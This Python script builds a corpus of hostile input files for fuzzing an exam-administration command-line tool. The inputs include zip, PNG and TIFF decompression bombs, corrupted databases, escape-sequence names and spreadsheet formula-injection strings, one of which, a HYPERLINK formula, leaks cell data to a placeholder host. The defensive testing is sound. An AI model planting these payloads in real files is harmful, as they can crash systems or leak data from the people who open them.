"""Hostile files for everything but applicant imports (issue 15): build a corpus, run each file through the
command line with a memory and a time limit, and list every case that crashed, hung, printed a traceback,
answered without Chinese, changed the database on a refusal or wrote a formula into a spreadsheet.

    python benchmarks/hostile_corpus_other.py [--out DIR] [--only WORD] [--timeout S] [--keep]

Kinds: ``results`` JSON (numbers written every way, marks and notes, keys, structure, encodings, size and
depth), ``scores enter`` values, the 考务 resources workbook, folders of photos, backup files for ``restore``,
the database file itself (not a database, empty, truncated, read-only, a newer schema, locked, a full disk),
the 考生须知 template and the key file, and every writer (``export``, ``template``, ``resources
template``, ``print-batch``) over stored names that start like a formula or use characters no font has.

Each case runs as ``prlimit --as=1500000000 python -m eligibility_desk …`` in a copy of a small prepared
database (accounts, a screened demo batch, resources, a final plan, score sheets).  Exit 0 is a pass; the
report is the table of failures.  Nothing here is a test: the tests in ``tests/`` hold a case of each kind
(``tests/cli/test_hostile_other.py``).  Run it with ``--only WORD`` for one group (``results``, ``scores``,
``resources``, ``photos``, ``database``, ``restore``, ``export``, ``print-batch``, ``centre``, ``notice``,
``secret``, ``template``) and ``-v`` to see each case's message.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

PASSWORD = "hostile-pass-123"
USER = "boss"
MEMORY = 1_500_000_000
CJK = re.compile("[\u4e00-\u9fff]")


@dataclass
class Case:
    name: str
    argv: list[str]                 # after ``python -m eligibility_desk --db DB``; "{dir}" is the case folder
    expect: str = "refuse"          # "refuse" (1/2), "accept" (0) or "any" (clean either way)
    place: str | None = None        # text the refusal must name (a file, a row, a candidate)
    files: dict[str, bytes] = field(default_factory=dict)   # written into the case folder first
    db: str = "copy"                # "copy" of the prepared database, or "none" (results), or a setup name
    setup: object = None            # callable(case_dir, db_path) run before the command
    outputs: tuple[str, ...] = ()   # files the command writes (checked: no <f>, none left on refusal)
    stdin: bytes | None = None
    env: dict = field(default_factory=dict)
    db_may_change: bool = False     # a refusal may still have changed the database (an empty file made new)


# --- the prepared database --------------------------------------------------------------------------------

def run_cli(db: Path | None, *argv, env=None, stdin=None, timeout=120, cwd=None, fsize=None):
    given = bool(argv) and argv[0] == "--db"
    command = [sys.executable, "-m", "eligibility_desk"] + (["--db", str(db)] if db and not given else []) + list(argv)
    full = {**os.environ, "ELIGIBILITY_DESK_PASSWORD": PASSWORD, "ELIGIBILITY_DESK_NEW_PASSWORD": PASSWORD,
            **(env or {})}
    if shutil.which("prlimit"):
        command = ["prlimit", f"--as={MEMORY}"] + ([f"--fsize={fsize}"] if fsize else []) + ["--"] + command
    started = time.perf_counter()
    try:
        done = subprocess.run(command, input=stdin, capture_output=True, timeout=timeout, env=full, cwd=cwd)
    except subprocess.TimeoutExpired as exc:
        return None, (exc.stdout or b"").decode(errors="replace"), (exc.stderr or b"").decode(errors="replace"), timeout
    return (done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"),
            time.perf_counter() - started)


def prepare(folder: Path) -> Path:
    db = folder / "base.sqlite3"
    for old in folder.glob("base.sqlite3*"):
        old.unlink()
    steps = [("users", "add", USER, "--roles", "admin,clerk,supervisor,planner,recorder,viewer"),
             ("users", "add", "rec2", "--roles", "recorder", "--user", USER),
             ("demo-batch", "-n", "30", "--user", USER),
             ("resources", "demo", "--batch", "1", "--user", USER),
             ("plan-batch", "--batch", "1", "--final", "--user", USER),
             ("scores", "open", "--batch", "1", "--user", USER)]
    for step in steps:
        status, out, err, _ = run_cli(db, *step)
        if status != 0:
            raise SystemExit(f"preparing the database failed at {step}: {err}")
    with sqlite3.connect(db) as con:
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return db


def digest(path: Path) -> str:
    """Every table's rows, sorted, hashed: equal digests mean the same content."""
    if not path.exists():
        return "absent"
    h = hashlib.sha256()
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        try:
            tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
            for table in tables:
                rows = sorted(repr(r) for r in con.execute(f'SELECT * FROM "{table}"'))
                h.update(table.encode())
                for r in rows:
                    h.update(r.encode())
        finally:
            con.close()
    except sqlite3.Error:
        h.update(path.read_bytes())
    return h.hexdigest()


def formula_cells(path: Path) -> list[str]:
    """The sheets of a written workbook holding an ``<f>`` element."""
    found = []
    try:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    if re.search(rb"<(\w+:)?f[ >/]", z.read(name)):
                        found.append(name)
    except zipfile.BadZipFile:
        found.append("not a zip")
    return found


# --- building blocks ----------------------------------------------------------------------------------------

def scores_json(records, **extra) -> bytes:
    return json.dumps({"scores": records, **extra}, ensure_ascii=False).encode()


def raw_scores(score_text: str, part: str = "theory", level: str = "4") -> bytes:
    """A one-record file with the score written as it stands (not as json.dumps would write it)."""
    other = "skill" if part == "theory" else "theory"
    return f'{{"scores": [{{"candidate": "C1", "level": "{level}", "{part}": {score_text}, "{other}": 70}}]}}'.encode()


def xlsx(sheets: dict[str, list[list]], hide_rows=(), merge=None, extra=None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        for r in hide_rows:
            ws.row_dimensions[r].hidden = True
        if merge:
            ws.merge_cells(merge)
    if extra:
        extra(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def patch_sheet(book: bytes, member: str, change) -> bytes:
    """``book`` with one part's XML changed by ``change(bytes) -> bytes``."""
    src = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            z.writestr(item, change(data) if item.filename == member else data)
    return out.getvalue()


RESOURCE_HEADERS = {"考场": ["编号", "名称", "类型", "容量", "设备"], "人员": ["编号", "姓名", "角色", "单位", "不可用时间", "考评员证书", "主监考"],
                    "时段": ["编号", "开始", "结束"]}


def resources_book(room=None, staff=None, slot=None, **kw) -> bytes:
    return xlsx({"考场": [RESOURCE_HEADERS["考场"], room or ["X1", "教室", "标准教室", 30, ""]],
                 "人员": [RESOURCE_HEADERS["人员"], staff or ["S900", "张三", "监考", "本中心", "", "", "否"]],
                 "时段": [RESOURCE_HEADERS["时段"], slot or ["Z1", "2025-11-01 08:30", "2025-11-01 10:00"]]}, **kw)


def png(width: int, height: int, idat: bytes | None = None) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    if idat is None:
        idat = zlib.compress(b"\0" * (height * (width * 3 + 1)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def jpeg(size=(60, 80), exif: bytes | None = None) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (200, 180, 160)).save(out, "JPEG", exif=exif or b"")
    return out.getvalue()


def other_image(fmt: str) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 50), (10, 20, 30)).save(out, fmt)
    return out.getvalue()


# --- the cases ----------------------------------------------------------------------------------------------

def results_cases() -> list[Case]:
    cases = []
    std = ["--standard", "4-07-02-06"]

    def case(name, data, expect="refuse", place=None):
        cases.append(Case(f"results/{name}", ["results", "{dir}/scores.json", *std], expect, place,
                          {"scores.json": data}, db="none"))

    for text in ['"５９.５"', '"59,5"', '" 60 "', '1e2', '6E1', '"0x3C"', 'NaN', 'Infinity', '-Infinity',
                 '"NaN"', '"Infinity"', '-1', '101', '100.01', '59.99999999999999999', '59.95', 'true', 'false',
                 '[]', '{}', '{"v": 60}', '"60分"', '"６０"', '"1_0"', '"٦٠"', '1' + '0' * 5000, '1e999999999',
                 '-1e-999999999', '"\u00a060\u00a0"', '"6\u200b0"', '""', '"   "']:
        case(f"score {text[:30]}", raw_scores(text), "any", "C1")
    case("score -0", raw_scores("-0"), "accept")
    case("score 60.0", raw_scores("60.0"), "accept")
    case("score null", raw_scores("null"), "accept")
    case("unknown key Theory", scores_json([{"candidate": "C1", "level": "4", "Theory": 60, "skill": 70}]), place="Theory")
    case("unknown key in Chinese", scores_json([{"candidate": "C1", "level": "4", "理论知识考试": 60, "skill": 70}]), place="理论")
    case("unknown key THEORY", scores_json([{"candidate": "C1", "level": "4", "THEORY": 60, "skill": 70}]), place="THEORY")
    case("disqualified bare", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "disqualified": ["skill"]}]), place="C1")
    for note in ["", "   ", "\t\n", "\x00", "\x1b[31m", "\u200b", "\u3000", "\u202e"]:
        case(f"disqualified note {note!r}", scores_json([{"candidate": "C1", "level": "4", "theory": 60,
                                                          "disqualified": [{"part": "skill", "note": note}]}]), place="C1")
    case("disqualified note number", scores_json([{"candidate": "C1", "level": "4", "theory": 60,
                                                   "disqualified": [{"part": "skill", "note": 5}]}]), place="C1")
    case("disqualified note huge", scores_json([{"candidate": "C1", "level": "4", "theory": 60,
                                                 "disqualified": [{"part": "skill", "note": "手机" * 100_000}]}]), "any", "C1")
    case("absent as object", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "absent": [{"part": "skill"}]}]), "any")
    case("absent as text", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "absent": "skill"}]), place="absent")
    case("duplicate candidate", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "skill": 70}] * 2), place="C1")
    case("duplicate candidate spaced", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "skill": 70},
                                                    {"candidate": " C1 ", "level": "4", "theory": 60, "skill": 70}]), place="C1")
    case("duplicate key", b'{"scores": [{"candidate": "C1", "level": "4", "theory": 99, "theory": 10, "skill": 70}]}', "any")
    case("candidate control", scores_json([{"candidate": "C\x001\x1b", "level": "4", "theory": 60, "skill": 70}]), "any")
    case("candidate object", scores_json([{"candidate": {"a": 1}, "level": "4", "theory": 60, "skill": 70}]))
    case("candidate huge", scores_json([{"candidate": "C" * 1_000_000, "level": "4", "theory": 60, "skill": 70}]), "any")
    case("level 9", scores_json([{"candidate": "C1", "level": "9", "theory": 60}]), place="C1")
    case("level int", scores_json([{"candidate": "C1", "level": 4, "theory": 60, "skill": 70}]), "any")
    case("level float", scores_json([{"candidate": "C1", "level": 4.0, "theory": 60, "skill": 70}]), "any")
    case("level list", scores_json([{"candidate": "C1", "level": ["4"], "theory": 60}]))
    case("record a list", scores_json([["C1", "4", 60]]))
    case("record null", scores_json([None]))
    case("scores object", json.dumps({"scores": {"C1": 60}}).encode())
    case("top list", b"[]")
    case("top number", b"42")
    case("empty file", b"")
    case("only spaces", b"   \n")
    case("not json", b"candidate,theory\nC1,60\n")
    case("truncated", scores_json([{"candidate": "C1", "level": "4", "theory": 60}])[:-5])
    case("deep nesting", b'{"scores": [' + b"[" * 200_000 + b"]" * 200_000 + b"]}")
    case("deep objects", b'{"scores": [' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"]}")
    case("bom utf-8", b"\xef\xbb\xbf" + scores_json([{"candidate": "C1", "level": "4", "theory": 60, "skill": 70}]), "accept")
    case("utf-16 le bom", "\ufeff".encode("utf-16-le") + scores_json([{"candidate": "C1", "level": "4", "theory": 60, "skill": 70}]).decode().encode("utf-16-le"), "any")
    case("utf-16 be", scores_json([{"candidate": "C1", "level": "4", "theory": 60, "skill": 70}]).decode().encode("utf-16-be"), "any")
    case("gb18030", json.dumps({"scores": [{"candidate": "考生一", "level": "4", "theory": 60, "skill": 70}]}, ensure_ascii=False).encode("gb18030"), "any")
    case("latin-1 junk", b'{"scores": [{"candidate": "\xe9\xff", "level": "4", "theory": 60, "skill": 70}]}', "any")
    case("lone surrogate", b'{"scores": [{"candidate": "\\ud800", "level": "4", "theory": 60, "skill": 70}]}', "any")
    case("nul bytes", b"\0" * 1000)
    case("binary", os.urandom(4096))
    many = [{"candidate": f"C{i}", "level": "4", "theory": 60, "skill": 70} for i in range(200_000)]
    case("200k records", scores_json(many), "accept")
    case("huge string", b'{"scores": [], "x": "' + b"a" * 60_000_000 + b'"}', "any")
    case("huge number", b'{"scores": [{"candidate": "C1", "level": "4", "theory": ' + b"9" * 2_000_000 + b"}]}", "any")
    case("many keys", json.dumps({"scores": [{"candidate": "C1", "level": "4", **{f"k{i}": i for i in range(100_000)}}]}).encode(), "refuse")
    cases.append(Case("results/--as-of bad", ["results", "{dir}/s.json", *std, "--as-of", "2025-13-45"], "refuse",
                      files={"s.json": scores_json([])}, db="none"))
    cases.append(Case("results/standard unknown", ["results", "{dir}/s.json", "--standard", "9-99"], "refuse",
                      files={"s.json": scores_json([])}, db="none"))
    cases.append(Case("results/missing file", ["results", "{dir}/nope.json", *std], "refuse", "nope.json", db="none"))
    cases.append(Case("results/a folder", ["results", "{dir}", *std], "refuse", db="none"))
    return cases


def enter_cases() -> list[Case]:
    cases = []
    for value in ["５９.５", "59,5", " 60 ", "1e2", "6E1", "0x3C", "NaN", "Infinity", "-0", "-1", "101", "59.95",
                  "59.99999999999999999", "违纪", "违纪   ", "w", "w \t", "违纪\x01", "违纪\u200b", "缺考 多余", "60 分",
                  "\x1b[2J", "=1+1", "9" * 10_000, "违纪 " + "x" * 20_000, "true", "null", ""]:
        cases.append(Case(f"scores enter/{value[:24]!r}", ["scores", "enter", "1", "--recorder", "1", f"1={value}", "--user", USER],
                          "any"))
    cases.append(Case("scores enter/unknown seat", ["scores", "enter", "1", "--recorder", "1", "999=60", "--user", USER], place="999"))
    cases.append(Case("scores enter/seat not a number", ["scores", "enter", "1", "--recorder", "1", "x=60", "--user", USER]))
    cases.append(Case("scores enter/seat huge", ["scores", "enter", "1", "--recorder", "1", "9" * 5000 + "=60", "--user", USER]))
    cases.append(Case("scores enter/no equals", ["scores", "enter", "1", "--recorder", "1", "60", "--user", USER]))
    cases.append(Case("scores enter/sheet unknown", ["scores", "enter", "999", "--recorder", "1", "1=60", "--user", USER]))
    cases.append(Case("scores enter/sheet text", ["scores", "enter", "abc", "--recorder", "1", "1=60", "--user", USER]))

    def lock_sheet(case_dir, db):   # a sheet without a panel (double entry), entered twice alike and locked
        with sqlite3.connect(db) as con:
            sheet, lines = con.execute("SELECT id, lines FROM score_sheet WHERE panel = '[]' ORDER BY id").fetchone()
        seats = [f"{line['seat']}=70" for line in json.loads(lines)]
        for recorder, who in (("1", USER), ("2", "rec2")):   # two people enter a sheet
            run_cli(db, "scores", "enter", str(sheet), "--recorder", recorder, *seats, "--user", who)
        status, _o, err, _ = run_cli(db, "scores", "lock", str(sheet), "--user", USER)
        if status != 0:
            raise RuntimeError(f"lock failed: {err}")
        (case_dir / "sheet.txt").write_text(str(sheet))
    cases.append(Case("scores enter/locked sheet", ["scores", "enter", "{sheet}", "--recorder", "1", "1=60", "--user", USER],
                      setup=lock_sheet))
    cases.append(Case("scores lock/incomplete", ["scores", "lock", "2", "--user", USER]))
    cases.append(Case("scores publish/not locked", ["scores", "publish", "--batch", "1", "--user", USER]))
    return cases


def resource_cases() -> list[Case]:
    cases = []

    def case(name, data, expect="refuse", place=None):
        cases.append(Case(f"resources/{name}", ["resources", "import", "{dir}/r.xlsx", "--batch", "1", "--user", USER],
                          expect, place, {"r.xlsx": data}))

    case("good", resources_book(), "accept")
    case("zero bytes", b"", place="r.xlsx")
    case("text renamed", b"id,name\n1,2\n", place="r.xlsx")
    case("csv renamed", "编号,名称\nX1,教室\n".encode("gb18030"), place="r.xlsx")
    case("truncated zip", resources_book()[:3000], place="r.xlsx")
    case("random zip", _zip({"hello.txt": b"hi"}), place="r.xlsx")
    case("formula capacity", resources_book(room=["X1", "教室", "标准教室", "=10*3", ""]), place="考场")
    case("formula name", resources_book(room=["X1", '=HYPERLINK("http://x","y")', "标准教室", 30, ""]), "any")
    case("capacity date", resources_book(room=["X1", "教室", "标准教室", _date(2025, 1, 1), ""]), place="考场")
    case("capacity text", resources_book(room=["X1", "教室", "标准教室", "三十", ""]), place="考场")
    case("capacity huge", resources_book(room=["X1", "教室", "标准教室", 10 ** 30, ""]), place="考场")
    case("capacity negative", resources_book(room=["X1", "教室", "标准教室", -5, ""]), place="考场")
    case("capacity float", resources_book(room=["X1", "教室", "标准教室", 30.5, ""]), place="考场")
    case("capacity bool", resources_book(room=["X1", "教室", "标准教室", True, ""]), "any")
    case("slot reversed", resources_book(slot=["Z1", "2025-11-01 10:00", "2025-11-01 08:30"]), place="时段")
    case("slot numbers", resources_book(slot=["Z1", 45000.5, 45000.6]), "any")
    case("slot year 9999", resources_book(slot=["Z1", "9999-12-31 23:00", "9999-12-31 23:59"]), "any")
    case("slot text", resources_book(slot=["Z1", "明天上午", "后天"]), place="时段")
    case("staff control chars", resources_book(staff=["S900", "张_x001B_三", "监考", "本中心", "", "", "否"]), "any", "人员")
    case("staff bidi", resources_book(staff=["S900", "张\u202e三", "监考", "本中心", "", "", "否"]), "any")
    case("staff long name", resources_book(staff=["S900", "张" * 32767, "监考", "本中心", "", "", "否"]), "any")
    case("staff unavailable junk", resources_book(staff=["S900", "张三", "监考", "本中心", "~~;;~", "", "否"]), place="人员")
    case("staff credentials junk", resources_book(staff=["S900", "张三", "考评员", "本中心", "", "::,,", "否"]), place="人员")
    case("staff role unknown", resources_book(staff=["S900", "张三", "校长", "本中心", "", "", "否"]), place="人员")
    case("room id formula-like", resources_book(room=["=X1", "教室", "标准教室", 30, ""]), "any")
    case("error cell", patch_sheet(resources_book(), "xl/worksheets/sheet1.xml",
                                   lambda x: x.replace(b'<c r="D2" t="n"><v>30</v>', b'<c r="D2" t="e"><v>#DIV/0!</v>')), place="考场")
    case("broken xml", patch_sheet(resources_book(), "xl/worksheets/sheet1.xml",
                                   lambda x: x.replace(b'r="D2"', b'r="D2" r="D2"')), place="r.xlsx")
    case("merged cells", resources_book(merge="A1:B2"), "any")
    case("hidden row", resources_book(hide_rows=(2,)), "any")
    case("extra sheets", resources_book(extra=lambda wb: wb.create_sheet("其他").append(["x"] * 5)), "accept")
    case("missing sheet", xlsx({"考场": [RESOURCE_HEADERS["考场"]]}), place="人员")
    case("headers only", xlsx({k: [v] for k, v in RESOURCE_HEADERS.items()}), "any")
    case("far cell", patch_sheet(resources_book(), "xl/worksheets/sheet1.xml",
                                 lambda x: x.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
         place="r.xlsx")
    case("zip bomb", _zip_bomb(resources_book()), place="r.xlsx")
    case("huge room name", resources_book(room=["X1", "教" * 32767, "标准教室", 30, ""]), place="考场")
    cases.append(Case("resources/a folder", ["resources", "import", "{dir}", "--batch", "1", "--user", USER]))
    cases.append(Case("resources/missing", ["resources", "import", "{dir}/none.xlsx", "--batch", "1", "--user", USER], place="none.xlsx"))
    cases.append(Case("resources/template", ["resources", "template", "{dir}/t.xlsx"], "accept", outputs=("t.xlsx",)))
    return cases


def _date(y, m, d):
    from datetime import datetime
    return datetime(y, m, d)


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _zip_bomb(book: bytes) -> bytes:
    filler = b"<!--" + b" " * 400_000_000 + b"-->"
    return patch_sheet(book, "xl/worksheets/sheet1.xml", lambda x: x.replace(b"<sheetData>", filler + b"<sheetData>"))


def photo_cases() -> list[Case]:
    cases = []

    def case(name, files, expect="any", place=None, setup=None):
        cases.append(Case(f"photos/{name}", ["photos", "import", "1", "{dir}/p", "--user", USER], expect, place,
                          {f"p/{k}": v for k, v in files.items()}, setup=setup,
                          db_may_change=True))   # the good photos are kept, the folder's import audited (by design)

    good = jpeg()
    case("truncated jpeg", {"{id}.jpg": good[:len(good) // 2]}, place=".jpg")
    case("truncated png", {"{id}.png": png(50, 60)[:60]}, place=".png")
    case("png bomb 30000x30000", {"{id}.png": png(30000, 30000, zlib.compress(b"\0" * 1000))}, place=".png")
    case("png 1x100000000", {"{id}.png": png(1, 100_000_000, zlib.compress(b"\0" * 1000))}, place=".png")
    case("png 0x0", {"{id}.png": png(0, 0, b"")}, place=".png")
    case("huge exif", {"{id}.jpg": jpeg(exif=b"Exif\0\0" + b"\xff" * 60000)}, "any")
    case("gif renamed", {"{id}.jpg": other_image("GIF")}, "any")
    case("webp renamed", {"{id}.jpg": other_image("WEBP")}, "any")
    case("svg renamed", {"{id}.jpg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9e9" height="9e9"/>'}, place=".jpg")
    case("zero bytes", {"{id}.jpg": b""}, place=".jpg")
    case("text", {"{id}.jpg": b"not a photo"}, place=".jpg")
    case("control name", {"\x1b[31m{id}\x07.jpg": good}, place=".jpg")
    case("newline name", {"A\nB.jpg": good}, "any")
    case("bidi name", {"\u202e{id}.jpg": good}, "any")
    case("dotdot name", {"..{id}.jpg": good}, "any")
    case("tiff bomb", {"{id}.tif": _tiff(100_000, 100_000)}, place=".tif")
    cases.append(Case("photos/not a folder", ["photos", "import", "1", "{dir}/nothing", "--user", USER], place="nothing"))
    cases.append(Case("photos/a file", ["photos", "import", "1", "{dir}/f.jpg", "--user", USER], files={"f.jpg": good}, place="f.jpg"))
    return cases


def _tiff(width: int, height: int) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 100)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + b"\0\0\0\0"
    return b"II*\0" + struct.pack("<I", 8 + 100) + b"\0" * 100 + ifd


def database_cases(base: Path) -> list[Case]:
    cases = []
    probe = ["batches", "--user", USER]

    def swap(content: bytes):
        def setup(case_dir, db):
            for extra in (db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
                extra.unlink(missing_ok=True)
            db.write_bytes(content)
        return setup

    for name, content in [("text file", "这不是数据库\n".encode()), ("zero bytes", b""),
                          ("truncated", base.read_bytes()[:5000]), ("header only", base.read_bytes()[:100]),
                          ("random", os.urandom(20000)), ("zip", _zip({"a": b"b"}))]:
        cases.append(Case(f"database/{name}", probe, "any" if name == "zero bytes" else "refuse", setup=swap(content),
                          db_may_change=name == "zero bytes"))

    def corrupt_middle(case_dir, db):
        data = bytearray(db.read_bytes())
        for at in range(4096, len(data), 4096 * 3):
            data[at:at + 200] = os.urandom(200)
        db.write_bytes(bytes(data))
    cases.append(Case("database/pages scrambled", probe, "refuse", setup=corrupt_middle))

    def newer(case_dir, db):
        with sqlite3.connect(db) as con:
            con.execute("UPDATE alembic_version SET version_num='9999'")
    cases.append(Case("database/newer schema", probe, "refuse", setup=newer))

    def no_version(case_dir, db):
        with sqlite3.connect(db) as con:
            con.execute("DROP TABLE alembic_version")
    cases.append(Case("database/tables but no version", probe, "refuse", setup=no_version))

    def foreign(case_dir, db):
        for extra in (db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
            extra.unlink(missing_ok=True)
        db.unlink()
        with sqlite3.connect(db) as con:
            con.execute("CREATE TABLE applicants (x)")
            con.execute("INSERT INTO applicants VALUES (1)")
    cases.append(Case("database/someone else's sqlite", probe, "refuse", setup=foreign))

    # read-only: as SQLite opens it read-only (file permissions do not stop root, who runs this in CI)
    cases.append(Case("database/read-only, read", probe, "accept", db="readonly"))
    cases.append(Case("database/read-only, write", ["centre", "set", "--name", "新考点", "--user", USER], "refuse",
                      db="readonly"))
    cases.append(Case("database/a folder", probe, "refuse", db="folder"))
    cases.append(Case("database/in a missing read-only place", probe, "refuse", db="/proc/nope/x.sqlite3"))
    cases.append(Case("database/url junk", probe, "refuse", db="nosuch://x"))
    cases.append(Case("database/locked", ["centre", "set", "--name", "新考点", "--user", USER], "refuse",
                      env={"HOSTILE_LOCK": "1"}))
    cases.append(Case("database/disk full", ["demo-batch", "-n", "2000", "--seed", "7", "--user", USER], "refuse",
                      env={"HOSTILE_FULL": "1"}))
    return cases


def backup_cases(base: Path) -> list[Case]:
    cases = []

    def case(name, data, expect="refuse", place="b.sqlite3"):
        cases.append(Case(f"restore/{name}", ["restore", "{dir}/b.sqlite3", "--yes", "--user", USER], expect, place,
                          {"b.sqlite3": data}))

    case("zero bytes", b"")
    case("text", b"hello")
    case("sqlite header only", base.read_bytes()[:100])
    case("truncated", base.read_bytes()[: len(base.read_bytes()) // 2])
    case("pg header junk", b"PGDMP" + os.urandom(200), "refuse", None)
    case("random", os.urandom(10000))
    with tempfile.TemporaryDirectory() as tmp:
        other = Path(tmp) / "o.sqlite3"
        with sqlite3.connect(other) as con:
            con.execute("CREATE TABLE alembic_version (version_num TEXT)")
            con.execute("INSERT INTO alembic_version VALUES ('9999')")
        case("newer revision", other.read_bytes())
        other.unlink()
        with sqlite3.connect(other) as con:
            con.execute("CREATE TABLE alembic_version (version_num TEXT)")
            con.execute("INSERT INTO alembic_version VALUES ('0010')")
        case("version but no tables", other.read_bytes())
        other.unlink()
        with sqlite3.connect(other) as con:
            con.execute("CREATE TABLE alembic_version (version_num INTEGER)")
            con.execute("INSERT INTO alembic_version VALUES (42)")
        case("version a number", other.read_bytes())
    cases.append(Case("restore/missing", ["restore", "{dir}/none.sqlite3", "--yes", "--user", USER], "refuse", "none.sqlite3"))
    cases.append(Case("restore/a folder", ["restore", "{dir}", "--yes", "--user", USER], "refuse"))
    cases.append(Case("backup/into a folder that is a file", ["backup", "--out", "{dir}/f/b.sqlite3", "--user", USER],
                      "refuse", files={"f": b"x"}))
    cases.append(Case("backup/onto a folder", ["backup", "--out", "{dir}", "--user", USER], "refuse"))
    return cases


def writer_cases() -> list[Case]:
    cases = []
    risky = ['=HYPERLINK("http://x?leak="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "#N/A",
             "=1\x07", "张\x00三", "\ud800"]

    def hostile_names(case_dir, db):
        with sqlite3.connect(db) as con:
            ids = [r[0] for r in con.execute("SELECT id FROM applicant ORDER BY id")]
            for pk, name in zip(ids, risky * 3):
                con.execute("UPDATE applicant SET name=? WHERE id=?", (name.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
                                                                         if "\ud800" in name else name, pk))
            con.execute("UPDATE batch SET name=? WHERE id=1", ("=批次+1",))
    cases.append(Case("export/formula names", ["export", "{dir}/e.xlsx", "--batch", "=批次+1", "--user", USER], "accept",
                      setup=hostile_names, outputs=("e.xlsx",)))
    cases.append(Case("template/applicants", ["template", "{dir}/t.xlsx"], "accept", outputs=("t.xlsx",), db="none"))
    cases.append(Case("export/into a missing folder", ["export", "{dir}/no/e.xlsx", "--batch", "1", "--user", USER], "any"))
    cases.append(Case("export/onto a folder", ["export", "{dir}", "--batch", "1", "--user", USER], "refuse"))

    def rare_names(names):
        def setup(case_dir, db):   # names as stored before the text policy; the plan made again (it keeps names)
            with sqlite3.connect(db) as con:
                ids = [r[0] for r in con.execute("SELECT id FROM applicant ORDER BY id")]
                for pk, name in zip(ids, names * 10):
                    con.execute("UPDATE applicant SET name=? WHERE id=?", (name, pk))
            run_cli(db, "plan-batch", "--batch", "1", "--final", "--user", USER)
        return setup
    for doc in ("slips", "signin", "doorlist", "scoresheet"):
        cases.append(Case(f"print-batch/{doc} emoji and ext-B", ["print-batch", "1", doc, "--out", "{dir}/d.pdf", "-q", "--user", USER],
                          "any", setup=rare_names(["王😀", "𠀀𠀁林", "李\u0301", "\U000e0041张", "=1+1"]), db_may_change=True))
    cases.append(Case("print-batch/font junk", ["print-batch", "1", "slips", "--out", "{dir}/d.pdf", "-q", "--font", "{dir}/f.ttf", "--user", USER],
                      "refuse", "f.ttf", files={"f.ttf": b"\0\1\0\0" + os.urandom(3000)}, db_may_change=True))
    cases.append(Case("print-batch/font empty", ["print-batch", "1", "slips", "--out", "{dir}/d.pdf", "-q", "--font", "{dir}/f.ttf", "--user", USER],
                      "refuse", "f.ttf", files={"f.ttf": b""}, db_may_change=True))
    cases.append(Case("print-batch/out into a file", ["print-batch", "1", "slips", "--out", "{dir}/f/d.pdf", "-q", "--user", USER],
                      "refuse", files={"f": b"x"}, db_may_change=True))
    cases.append(Case("centre/name control chars", ["centre", "set", "--name", "考点\x1b[2J\x01", "--user", USER], "any"))
    cases.append(Case("centre/name huge", ["centre", "set", "--name", "考" * 10_000, "--user", USER], "any"))
    cases.append(Case("centre/name formula", ["centre", "set", "--name", "=1+1", "--user", USER], "any"))
    return cases


def settings_cases() -> list[Case]:
    cases = []
    for name, data in [("binary", os.urandom(3000)), ("gbk", "考生须知\n请带身份证\n".encode("gbk")),
                       ("huge line", ("须" * 2_000_000).encode()), ("zero", b""), ("template junk", b"${centre ${{{ $")]:
        cases.append(Case(f"notice/{name}", ["print-batch", "1", "slips", "--out", "{dir}/d.pdf", "-q", "--user", USER],
                          "any", env={"XDG_CONFIG_HOME": "{dir}/config"}, files={"config/eligibility-desk/notice.txt": data},
                          db_may_change=True))
    for name, data in [("not hex", b"zz" * 20), ("short", b"abcd"), ("binary", os.urandom(50)), ("empty", b""),
                       ("huge", b"ab" * 10_000_000)]:
        cases.append(Case(f"secret file/{name}", ["print-batch", "1", "slips", "--out", "{dir}/d.pdf", "-q", "--secret-file",
                                                  "{dir}/k.hex", "--user", USER],
                          "any" if name == "huge" else "refuse", "k.hex", files={"k.hex": data}))
    return cases


# --- running ------------------------------------------------------------------------------------------------

